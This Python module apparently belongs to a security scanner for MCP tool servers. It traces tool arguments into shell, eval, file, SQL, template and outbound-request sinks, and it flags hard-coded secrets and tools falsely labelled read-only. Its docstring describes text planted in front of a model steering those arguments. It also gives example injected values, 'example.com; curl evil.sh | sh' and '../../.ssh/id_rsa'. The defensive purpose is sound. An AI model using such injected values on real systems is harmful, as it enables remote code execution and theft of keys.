"""Handler sinks: what a tool's code does with the arguments a model (or whoever steers it) chooses.

**Threat.** Tool metadata can be spotless while the handler behind it passes an argument straight into a
shell, ``eval``, a file path, an outbound request, an SQL string or a template. Anyone who can put text in
front of the model — a web page it reads, an issue, an email — then chooses that argument: command injection
(``subprocess`` with ``shell=True``, ``os.system``, ``child_process.exec``), code execution (``eval``,
``exec``, ``new Function``, ``vm``, ``pickle.loads``, ``yaml.load`` without a safe loader), reading or
overwriting any file (``open``, ``Path.read_text``, ``fs.readFile`` with no containment check), server-side
request forgery towards cloud metadata and internal services (``requests``, ``httpx``, ``fetch`` with an
argument as the host), SQL injection (queries built with f-strings, ``%``, ``.format``, ``+`` or template
literals) and template injection (``jinja2.Template(arg)``). The source scan also reports credentials written
into the code (provider token formats, private keys, random values assigned to secret-looking names) and tools
whose description or ``readOnlyHint`` promises read-only behaviour while the handler writes or deletes files or
changes a database.

**How.** Python handlers are parsed with ``ast``, TypeScript and JavaScript with tree-sitter, each file once
per scan. The handler's parameters are tainted and followed through assignments, f-strings and template
literals, concatenation, ``%`` and ``.format``, containers, attribute access, and calls into functions of the
same file (two levels). Casting (``int``), quoting (``shlex.quote``), ``os.path.basename``, tagged ``sql``
templates and parameterised queries clean a value; a containment check on the value before use
(``resolve()`` then ``is_relative_to``, ``commonpath``, ``startswith``, ``path.relative``, an allow-list
``in`` test, or a function named like a validator) clears it for file and URL sinks. A URL whose host is fixed
in code (``f"https://api.github.com/repos/{repo}"``) is not SSRF.

**Severity.** High for an argument reaching a shell, code evaluation or SQL text, and for a hard-coded
credential of a known format; medium for path traversal, SSRF, template injection, a random value in a
secret-named variable and a broken read-only promise about writes, deletes or database changes. Low for
weaker forms: an argument appended to a fixed program's argument list (argument injection), SQL that a tool
takes whole from the model by design, a sandboxed template, a read-only tool that runs commands or posts
requests, and credentials in test files.

**Example.** ``@mcp.tool() def ping(host: str): return subprocess.run(f"ping -c 1 {host}", shell=True)`` —
``host = "example.com; curl evil.sh | sh"`` runs a second command. ``def read_note(name): return
open(f"notes/{name}").read()`` — ``name = "../../.ssh/id_rsa"`` reads a key.

**Fix.** Pass argument lists without a shell, validate against allow-lists, parse data with safe parsers,
resolve paths and check they stay under the allowed root, fix the host of outbound requests or check the
address, use parameterised queries, keep templates fixed, read credentials from the environment, and make
descriptions and annotations say what the handler really does.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from mcts.analyzers._code_secrets import find_secrets
from mcts.analyzers._taint import EffectKind, Sink, SinkHit, Summary
from mcts.analyzers._taint_python import PythonModule
from mcts.analyzers._taint_typescript import TsModule
from mcts.analyzers.base import Analyzer, AnalyzerContext, SkipAnalyzer
from mcts.collect.result import SourceFiles
from mcts.model.finding import Confidence, Finding, Location, Severity, SourceRef, Surface
from mcts.model.inventory import Inventory, Tool
from mcts.model.source import ItemSource

_STRONG = {Sink.SHELL: Severity.HIGH, Sink.EVAL: Severity.HIGH, Sink.SQL: Severity.HIGH,
           Sink.PATH: Severity.MEDIUM, Sink.SSRF: Severity.MEDIUM, Sink.TEMPLATE: Severity.MEDIUM}
_TITLES = {
    Sink.SHELL: "Tool argument reaches a shell command", Sink.EVAL: "Tool argument reaches code evaluation",
    Sink.PATH: "Tool argument used as a file path without containment",
    Sink.SSRF: "Tool argument chooses the address of an outbound request", Sink.SQL: "SQL built from a tool argument",
    Sink.TEMPLATE: "Tool argument compiled as a template",
}
_WEAK_TITLES = {Sink.SHELL: "Tool argument passed to a fixed program (argument injection)",
                Sink.SQL: "Tool runs SQL text the model writes", Sink.TEMPLATE: "Tool argument compiled as a "
                "sandboxed template"}
_READ_ONLY = re.compile(
    r"(?i)\b(?:read[- ]only|does(?: not|n't) (?:modify|change|write|delete|alter)|never (?:modifies|writes|changes|"
    r"deletes|alters)|without (?:modifying|changing|writing|side[- ]effects)|no side[- ]effects|only reads|"
    r"non[- ]destructive)\b"
)
_SERIOUS = frozenset({EffectKind.WRITE, EffectKind.DELETE, EffectKind.DB_WRITE})
_TEST_PATH = re.compile(r"(?i)(?:^|/)(?:tests?|__tests__|spec|fixtures?|examples?|testdata|mocks?)(?:/|$)|"
                        r"(?:^|/)test_[^/]*$|[._-](?:test|spec)\.[a-z]+$")
_SOURCE_SUFFIXES = (".py", ".ts", ".tsx", ".mts", ".cts", ".js", ".mjs", ".cjs", ".jsx")


class HandlerSinksAnalyzer(Analyzer):
    """Follows tool arguments into dangerous calls; reports hard-coded secrets and broken read-only promises."""

    id = "handler-sinks"
    title = "Handler code"
    techniques = (*(s.value for s in Sink), "hardcoded-secret", "read-only-promise-broken")
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM

    def __init__(self, context: AnalyzerContext) -> None:
        super().__init__(context)
        self._modules: dict[str, PythonModule | TsModule] = {}

    @classmethod
    def load(cls, context: AnalyzerContext) -> HandlerSinksAnalyzer:
        """Skip unless the scan read source files."""
        if context.files is None:
            raise SkipAnalyzer("not a source scan")
        return cls(context)

    def check_inventory(self, inventory: Inventory) -> Iterator[Finding]:
        """Sinks and broken promises per handler (each handler once), then secrets in every kept file."""
        files = self.context.files
        assert files is not None
        tools = {tool.name: tool for tool in inventory.tools}
        walked: set[tuple[str, int]] = set()
        for source in inventory.sources:
            if source.surface not in (Surface.TOOL, Surface.RESOURCE_TEMPLATE, Surface.PROMPT):
                continue
            found = self._summary(files, source)
            if found is None:
                continue
            key, summary = found
            location = Location(surface=source.surface, item=source.item, field="handler")
            relpath = (source.handler_ref or source.ref).file
            if key not in walked:
                walked.add(key)
                yield from self._sink_findings(location, relpath, files.texts[relpath], summary)
            tool = tools.get(source.item or "") if source.surface is Surface.TOOL else None
            if tool is not None:
                yield from self._promise(location, relpath, tool, summary)
        for relpath, text in files.texts.items():
            if relpath.endswith(_SOURCE_SUFFIXES) or "." not in relpath.rsplit("/", 1)[-1]:
                yield from self._secrets(relpath, text)

    def _module(self, relpath: str, text: str, language: str) -> PythonModule | TsModule:
        module = self._modules.get(relpath)
        if module is None:
            module = PythonModule(text) if language == "python" else TsModule(text, relpath)
            self._modules[relpath] = module
        return module

    def _summary(self, files: SourceFiles, source: ItemSource) -> tuple[tuple[str, int], Summary] | None:
        ref = source.handler_ref or source.ref
        text = files.texts.get(ref.file)
        if text is None:
            return None
        module = self._module(ref.file, text, source.language)
        if isinstance(module, PythonModule):
            fn = module.function(source.handler, source.handler_ref.line if source.handler_ref else None) \
                if source.handler else module.function_at(ref.line)
            if fn is None:
                return None
            return (ref.file, fn.lineno), module.analyze_handler(fn, source.params)
        node = module.handler(source.handler, ref.line)
        if node is None:
            return None
        return (ref.file, node.start_byte), module.analyze_handler(node)

    def _sink_findings(self, location: Location, relpath: str, text: str, summary: Summary) -> Iterator[Finding]:
        lines = text.splitlines()
        seen: set[tuple[Sink, int]] = set()
        for hit in sorted(summary.hits, key=lambda h: (h.line, not h.strong)):
            if (hit.sink, hit.line) in seen:
                continue
            seen.add((hit.sink, hit.line))
            yield self._sink_finding(location, relpath, lines, hit)

    def _sink_finding(self, location: Location, relpath: str, lines: list[str], hit: SinkHit) -> Finding:
        code = lines[hit.line - 1].strip() if 0 < hit.line <= len(lines) else ""
        flow = f"{hit.taint.describe()} -> {hit.call}"
        if hit.strong:
            severity, title = _STRONG[hit.sink], _TITLES[hit.sink]
            confidence = Confidence.HIGH if len(hit.taint.path) <= 3 else Confidence.MEDIUM
        else:
            severity, title, confidence = Severity.LOW, _WEAK_TITLES.get(hit.sink, _TITLES[hit.sink]), Confidence.LOW
        detail = f"{relpath}:{hit.line}: {flow}"
        return self.finding(location, f"{code[:300]}  [{flow}]", technique=hit.sink.value, severity=severity,
                            confidence=confidence, title=title, detail=detail,
                            source=SourceRef(file=relpath, line=hit.line, column=hit.column))

    def _promise(self, location: Location, relpath: str, tool: Tool, summary: Summary) -> Iterator[Finding]:
        annotations = tool.annotations or {}
        claim = "readOnlyHint: true" if annotations.get("readOnlyHint") is True else None
        match = _READ_ONLY.search(tool.description or "")
        if claim is None and match is None:
            return
        claim = claim or f"description says {match.group(0)!r}" if match else claim
        if not summary.effects:
            return
        kinds = list(dict.fromkeys(e.kind for e in summary.effects))
        serious = [e for e in summary.effects if e.kind in _SERIOUS]
        first = serious[0] if serious else summary.effects[0]
        severity = Severity.MEDIUM if serious else Severity.LOW
        does = ", ".join(k.value for k in kinds)
        evidence = f"{claim}; the handler {does} ({first.call} at {relpath}:{first.line})"
        yield self.finding(location, evidence, technique="read-only-promise-broken", severity=severity,
                           confidence=Confidence.HIGH if serious else Confidence.LOW,
                           title="Read-only tool whose handler changes things",
                           source=SourceRef(file=relpath, line=first.line))

    def _secrets(self, relpath: str, text: str) -> Iterator[Finding]:
        in_tests = bool(_TEST_PATH.search(relpath))
        for hit in find_secrets(text):
            if in_tests:
                severity, confidence = Severity.LOW, Confidence.LOW
            elif hit.known_format:
                severity, confidence = Severity.HIGH, Confidence.HIGH
            else:
                severity, confidence = Severity.MEDIUM, Confidence.MEDIUM
            location = Location(surface=Surface.SERVER, item=None, field="source")
            yield self.finding(location, f"{relpath}:{hit.line}: {hit.shown}", technique="hardcoded-secret",
                               severity=severity, confidence=confidence, title=f"Hard-coded credential ({hit.kind})",
                               source=SourceRef(file=relpath, line=hit.line))


__all__ = ["HandlerSinksAnalyzer"]
